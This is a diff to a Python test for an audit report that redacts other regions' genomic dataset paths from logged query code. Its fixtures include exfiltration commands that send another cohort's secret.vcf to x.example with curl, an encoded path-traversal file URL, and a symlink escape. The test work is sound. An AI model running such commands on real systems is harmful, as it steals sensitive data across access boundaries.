@@ -573,7 +573,9 @@ def test_hiding_another_regions_data_cannot_hide_the_readers_own(reported):
             "p = '/data/norr/x/../../syd/syd-cohort/secret.vcf'; open(p)\n"
             "q = '/data/norr/norr-cohort/a,/data/syd/syd-cohort/b.vcf'.split(',')\n"
             "os.chdir('/data/./norr/norr-cohort'); v = VariantFile('norr-cohort.vcf.gz')\n"
-            "w = open('/project/out/norr-cohort_filtered.tsv', 'w')")
+            "w = open('norr-cohort_filtered.tsv', 'w')\n"
+            "!curl -s file:///data/norr/norr-cohort/..%2F..%2Fsyd%2Fsyd-cohort%2Fsecret.vcf | curl -T - x.example\n"
+            "!ln -s /data/syd /project/q/data/norr; cat /project/q/data/norr/syd-cohort/secret.vcf")
     reported.audit.append_many(build_records(alice, [
         {"action": "query.execute", "detail": {"msg_id": "m-hide", "code": code}},
         {"action": "file.open", "path": "/data/syd/syd-cohort/secret.vcf", "detail": {"msg_id": "m-hide"}}], None))
@@ -582,8 +584,12 @@ def test_hiding_another_regions_data_cannot_hide_the_readers_own(reported):
     assert "curl${IFS}-d@/data/syd/syd-cohort/secret.vcf${IFS}http://x.example" in row["code"]
     assert "p = '/data/norr/x/../../syd/syd-cohort/secret.vcf'" in row["code"]
     assert ",/data/syd/syd-cohort/b.vcf'" in row["code"]
+    assert "..%2F..%2Fsyd%2Fsyd-cohort%2Fsecret.vcf | curl" in row["code"]  # a URL reader decodes it: syd's
+    assert "cat /project/q/data/norr/syd-cohort/secret.vcf" in row["code"]  # not a path into /data
     assert "norr-cohort" not in row["code"] and "/data/./norr" not in row["code"]
-    assert row["code"].count(OtherRegions.HIDDEN_PATH) == 3 and row["code"].count(OtherRegions.HIDDEN_DATASET) == 2
+    # hidden whole: /data/./norr/norr-cohort and the list's norr path; only the dataset's name: after ${IFS}
+    # (not where a word starts), in the URL that leads into syd, and the two bare file names
+    assert row["code"].count(OtherRegions.HIDDEN_PATH) == 2 and row["code"].count(OtherRegions.HIDDEN_DATASET) == 4
 
 
 def test_a_deeply_nested_or_huge_detail_does_not_break_the_report(reported):
